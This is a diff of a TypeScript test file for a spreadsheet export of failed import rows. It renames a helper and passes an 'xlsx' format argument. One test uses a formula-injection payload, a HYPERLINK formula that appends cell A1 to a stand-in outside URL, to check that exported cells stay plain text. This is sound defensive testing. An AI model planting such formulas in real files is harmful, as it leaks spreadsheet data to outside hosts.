@@ -5,7 +5,7 @@ import type { FieldsMetadata } from '../../../../src/api/metadata.ts';
 import type { RequestFunction } from '../../../../src/api/request.ts';
 import { fetchNames } from '../../../../src/pages/list/cells/nameList.ts';
 import { cellProblem, createCheckRow } from '../../../../src/pages/transfer/checkRow.ts';
-import { workbookOf } from '../../../../src/pages/transfer/failedWorkbook.ts';
+import { failedFile } from '../../../../src/pages/transfer/failedFile.ts';
 import { importFields, missingFields } from '../../../../src/pages/transfer/importFields.ts';
 import type { ImportRow } from '../../../../src/pages/transfer/importRow.ts';
 import { readPreview } from '../../../../src/pages/transfer/preview.ts';
@@ -167,7 +167,7 @@ describe('rows in one call (protocol, section 5)', () => {
 
   it('go into a workbook that can be imported as it is, when they have failed', async () => {
     const failed = [{ ...row(0), values: { id: '007', name: 'a "b", c' } }];
-    const content = await (await workbookOf(columns, failed)).arrayBuffer();
+    const content = await (await failedFile('xlsx', columns, failed)).arrayBuffer();
     const book = read(content);
     const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
     expect(utils.sheet_to_json(sheet, { header: 1 })).toEqual([
@@ -179,7 +179,7 @@ describe('rows in one call (protocol, section 5)', () => {
   it('stand in a workbook as text, never as formulas that a spreadsheet calculates', async () => {
     const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
     const failed = [{ ...row(0), values: { id: 'a1', name } }];
-    const book = read(await (await workbookOf(columns, failed)).arrayBuffer());
+    const book = read(await (await failedFile('xlsx', columns, failed)).arrayBuffer());
     const cell = book.Sheets[book.SheetNames[0] ?? '']?.['B2'];
     expect([cell.t, cell.v, cell.f]).toEqual(['s', name, undefined]);
   });
